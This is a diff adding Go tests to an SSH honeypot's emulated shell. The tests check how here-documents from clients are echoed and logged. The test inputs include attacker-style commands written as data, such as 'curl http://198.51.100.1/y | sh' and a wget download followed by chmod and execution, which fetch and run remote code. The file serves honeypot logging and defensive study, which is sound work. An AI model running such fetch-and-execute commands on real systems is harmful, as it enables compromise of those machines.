@@ -0,0 +1,76 @@
+package shell
+
+import (
+	"context"
+	"github.com/longkeyy/sshesame/config"
+	log "github.com/sirupsen/logrus"
+	logtest "github.com/sirupsen/logrus/hooks/test"
+	"io"
+	"strings"
+	"testing"
+)
+
+// scriptInputs returns the entries logged for here-documents.
+func scriptInputs(hook *logtest.Hook) []*log.Entry {
+	entries := []*log.Entry{}
+	for _, entry := range hook.AllEntries() {
+		if entry.Message == "Script input received" {
+			entries = append(entries, entry)
+		}
+	}
+	return entries
+}
+
+func TestHereDocuments(t *testing.T) {
+	hook := captureLog(t)
+	for _, test := range []struct {
+		script     string
+		stdout     string
+		logged     string
+		delimiter  string
+		lines      int
+		terminated bool
+	}{
+		{"cat <<EOF\n#!/bin/sh\nwget http://198.51.100.1/x\nEOF\necho done", "#!/bin/sh\nwget http://198.51.100.1/x\ndone\n", "cat <<EOF\n#!/bin/sh\nwget http://198.51.100.1/x\nEOF\n", "EOF", 2, true},
+		// Leading tabs of the body and delimiter are stripped with <<-.
+		{"cat <<-END\n\tchmod +x x\n\t\t./x\n\tEND", "chmod +x x\n./x\n", "cat <<-END\n\tchmod +x x\n\t\t./x\n\tEND\n", "END", 2, true},
+		{"cat << 'EOF' | wc -l\n$HOME\n\nEOF", "2\n", "cat << 'EOF' | wc -l\n$HOME\n\nEOF\n", "EOF", 2, true},
+		// The client stopped sending before the delimiter.
+		{"cat <<EOF\ncurl http://198.51.100.1/y | sh", "curl http://198.51.100.1/y | sh\n", "cat <<EOF\ncurl http://198.51.100.1/y | sh\n", "EOF", 1, false},
+	} {
+		hook.Reset()
+		if stdout := output(t, newTestShell(newTestSession("root"), config.Shell{}), test.script); stdout != test.stdout {
+			t.Errorf("%q wrote %q, want %q", test.script, stdout, test.stdout)
+		}
+		entries := scriptInputs(hook)
+		if len(entries) != 1 {
+			t.Errorf("%q logged %v script inputs, want 1", test.script, len(entries))
+			continue
+		}
+		data := entries[0].Data
+		if data["script"] != test.logged || data["delimiter"] != test.delimiter || data["lines"] != test.lines || data["terminated"] != test.terminated {
+			t.Errorf("%q logged %v, want the whole script %q", test.script, data, test.logged)
+		}
+	}
+}
+
+func TestHereDocumentPiped(t *testing.T) {
+	hook := captureLog(t)
+	channel := &testChannel{input: strings.NewReader("cat > /tmp/run.sh <<EOF\nuname -a\nid\nEOF\ncat /tmp/run.sh\n")}
+	if err := runWithoutTerminal(context.Background(), newTestSession("root"), config.Shell{Profile: DefaultProfile}, channel); err != nil && err != io.EOF {
+		t.Fatal(err)
+	}
+	if stdout := channel.stdout.String(); stdout != "uname -a\nid\n" {
+		t.Errorf("wrote %q, want the here-document written to /tmp/run.sh", stdout)
+	}
+	entries := scriptInputs(hook)
+	if len(entries) != 1 || entries[0].Data["script"] != "cat > /tmp/run.sh <<EOF\nuname -a\nid\nEOF\n" || entries[0].Data["lines"] != 2 {
+		t.Errorf("logged script inputs %v, want the whole here-document once", entries)
+	}
+	// Nor are the lines of the body logged as commands.
+	for _, entry := range hook.AllEntries() {
+		if entry.Message == "Channel input received" && (entry.Data["line"] == "uname -a" || entry.Data["line"] == "id") {
+			t.Errorf("body line %q logged as input of its own", entry.Data["line"])
+		}
+	}
+}